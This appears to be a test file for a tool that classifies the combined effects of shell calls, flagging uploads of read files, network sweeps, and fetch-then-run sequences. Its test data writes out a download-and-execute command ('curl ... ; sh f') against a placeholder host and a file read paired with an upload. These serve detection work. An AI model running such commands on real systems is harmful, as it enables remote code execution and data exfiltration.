"""What only a call as a whole tells of its effects."""

import pytest

from outrider.effects.whole import MANY, as_a_whole
from outrider.events.call import Effect


def connect(value, *flags, at=(0, 0)):
    return Effect(verb="connect", kind="host", value=value, flags=flags, start=at[0], end=at[1])


def on(verb, value, at=(0, 0), note="", kind="path"):
    return Effect(verb=verb, kind=kind, value=value, start=at[0], end=at[1], note=note)


def test_what_is_read_beside_an_upload_is_sent():
    read, out = as_a_whole([on("read", "/etc/hosts"), connect("a.example", "upload")])
    assert read.flags == ("sent",)
    assert out.flags == ("upload",)


@pytest.mark.parametrize(
    "there", [connect("a.example"), connect("localhost:80", "upload"), connect("127.0.0.1", "upload")]
)
def test_what_is_fetched_or_stays_here_sends_nothing(there):
    assert as_a_whole([on("read", "/etc/hosts"), there])[0].flags == ()


def test_many_addresses_of_one_network_are_a_sweep():
    several = [connect(f"10.0.0.{at}") for at in range(MANY)]
    assert {effect.flags for effect in as_a_whole(several)} == {("sweep",)}
    assert {effect.flags for effect in as_a_whole(several[1:])} == {()}
    assert {effect.flags for effect in as_a_whole([connect(f"10.0.{at}.1") for at in range(MANY)])} == {()}


@pytest.mark.parametrize("value", ["10.0.0.*", "10.0.$i", "10.0.0.1:$p", "10.0.0.1:*"])
def test_an_address_that_a_loop_counts_up_is_a_sweep(value):
    assert as_a_whole([connect(value)])[0].flags == ("sweep",)
    assert as_a_whole([connect("127.0.0.1:$p")])[0].flags == ()


TEXT = "curl -o f https://a.example; sh f"
FETCH = [on("write", "/f", (8, 9)), connect("a.example", at=(10, 27)), on("read", "/f", (32, 33)),
         on("opaque", "sh", (32, 33), "runs f", "command")]  # fmt: skip


def test_what_the_same_call_fetches_and_runs_is_not_known():
    assert [effect.verb for effect in as_a_whole(FETCH, TEXT)][-1] == "unparsed"
    assert len(as_a_whole(FETCH, TEXT, written={"/f"})) == len(FETCH)


def test_a_file_that_another_command_wrote_is_not_fetched():
    text = "cc -o f x.c; curl https://a.example; ./f"
    made = [on("write", "/f", (6, 7)), connect("a.example", at=(18, 35)), on("read", "/f", (37, 40)),
            on("opaque", "/f", (37, 40), "runs a file", "command")]  # fmt: skip
    assert len(as_a_whole(made, text)) == len(made)
